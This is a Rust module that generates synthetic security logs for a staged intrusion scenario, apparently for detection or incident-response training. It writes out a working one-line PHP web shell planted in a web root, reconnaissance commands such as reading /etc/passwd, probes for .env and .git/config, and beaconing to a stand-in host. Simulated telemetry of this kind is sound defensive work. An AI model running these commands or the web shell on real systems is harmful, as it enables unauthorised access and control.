//! The attack: scan, guessed password, discovery, web shell, inside scan, beacon.

use super::lines::{PROXY_IP, WEB, WEB_IP, WEB_PUBLIC, asa, process, proxy, snort, syslog, web};
use super::{Line, Truth, noise};
use crate::rng::Rng;
use yagura_event::Micros;
use yagura_event::time::{MINUTE, SECOND};

const ATTACKER: &str = "203.0.113.66";
const ACCOUNT: &str = "deploy";
const DESTINATION: &str = "cdn-sync.example";
const DESTINATION_IP: &str = "192.0.2.77";

/// Writes the attack from `start` on and returns what a true incident names.
pub fn write(rng: &mut Rng, start: Micros, lines: &mut Vec<Line>) -> Truth {
    let first = lines.len();
    web_scan(rng, start, lines);
    guessed_password(start + 9 * MINUTE, lines);
    discovery(start + 12 * MINUTE, lines);
    web_shell(start + 16 * MINUTE, lines);
    inside_scan(rng, start + 20 * MINUTE, lines);
    beacon(rng, start + 26 * MINUTE, lines);
    for line in &mut lines[first..] {
        line.attack = true;
    }
    Truth {
        victim_host: WEB,
        account: ACCOUNT,
        attacker: ATTACKER,
        destination: DESTINATION,
        uninvolved_user: noise::MISTYPER,
    }
}

fn web_scan(rng: &mut Rng, at: Micros, lines: &mut Vec<Line>) {
    const PATHS: [&str; 8] = [
        "/admin.php",
        "/.env",
        "/backup.zip",
        "/phpinfo.php",
        "/wp-login.php",
        "/.git/config",
        "/test.cgi",
        "/server-status",
    ];
    for n in 0..60 {
        let path = rng.pick(&PATHS);
        let at = at + n * SECOND;
        lines.push(web(
            at,
            ATTACKER,
            &format!("GET {path}?{n}"),
            404,
            196,
            "Mozilla/5.00 (Nikto/2.5.0)",
        ));
    }
    let flow = format!("{ATTACKER}:41022 -> {WEB_PUBLIC}:80");
    let class = "web-application-attack";
    lines.push(snort(at + 4 * SECOND, 2_002_677, "SCAN Nikto web scan in progress", class, &flow));
}

fn guessed_password(at: Micros, lines: &mut Vec<Line>) {
    for n in 0..7 {
        let body = format!("Failed password for {ACCOUNT} from {ATTACKER} port 4410{n} ssh2");
        lines.push(syslog(at + n * 7 * SECOND, WEB, 84, "sshd", 7_010 + n as u64, &body));
    }
    let at = at + 70 * SECOND;
    let body = format!("Connection from {ATTACKER} port 44120 on {WEB_IP} port 22 rdomain \"\"");
    lines.push(syslog(at - SECOND, WEB, 86, "sshd", 7_040, &body));
    let body = format!("Accepted password for {ACCOUNT} from {ATTACKER} port 44120 ssh2");
    lines.push(syslog(at, WEB, 86, "sshd", 7_040, &body));
    let body =
        format!("pam_unix(sshd:session): session opened for user {ACCOUNT}(uid=1002) by (uid=0)");
    lines.push(syslog(at + SECOND, WEB, 86, "sshd", 7_040, &body));
}

fn discovery(at: Micros, lines: &mut Vec<Line>) {
    let commands = [
        ("/usr/bin/whoami", "whoami"),
        ("/usr/bin/id", "id"),
        ("/usr/bin/uname", "uname -a"),
        ("/usr/bin/cat", "cat /etc/passwd"),
        ("/usr/sbin/ip", "ip addr"),
        ("/usr/bin/ss", "ss -tulpn"),
    ];
    for (n, (image, command)) in commands.into_iter().enumerate() {
        let at = at + (n as Micros) * 25 * SECOND;
        lines.push(process(at, WEB, ACCOUNT, 7_100 + n as u64, image, "/bin/bash", command));
    }
}

fn web_shell(at: Micros, lines: &mut Vec<Line>) {
    let command = "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/img/.cache.php";
    lines.push(process(at, WEB, ACCOUNT, 7_140, "/bin/bash", "/bin/bash", command));
    let command = "curl http://localhost/img/.cache.php?c=id";
    lines.push(process(
        at + 20 * SECOND,
        WEB,
        ACCOUNT,
        7_146,
        "/usr/bin/curl",
        "/bin/bash",
        command,
    ));
}

fn inside_scan(rng: &mut Rng, at: Micros, lines: &mut Vec<Line>) {
    for n in 0..32 {
        let port = *rng.pick(&[22u64, 445, 3389, 80]);
        let target = format!("10.20.20.{}", 10 + n);
        let denied = format!(
            "4-106023: Deny tcp src dmz:{WEB_IP}/{} dst inside:{target}/{port} by access-group \"dmz_in\" [0x0, 0x0]",
            rng.range(30_000, 60_000)
        );
        lines.push(asa(at + n * SECOND / 4, 4, &denied));
    }
}

/// Regular contact through the proxy, a little irregular on purpose.
fn beacon(rng: &mut Rng, at: Micros, lines: &mut Vec<Line>) {
    let mut at = at;
    for n in 0..14 {
        lines.push(proxy(at, WEB_IP, ACCOUNT, DESTINATION, rng.range(180, 260), "curl/8.5.0"));
        let (connection, port) = (rng.range(100_000, 999_999), rng.range(20_000, 60_000));
        let built = format!(
            "6-302013: Built outbound TCP connection {connection} for outside:{DESTINATION_IP}/443 ({DESTINATION_IP}/443) to inside:{PROXY_IP}/{port} (198.51.100.2/{port})"
        );
        lines.push(asa(at + SECOND, 6, &built));
        at += 4 * MINUTE + rng.range(0, 20_000_000) as Micros + n % 2;
    }
}
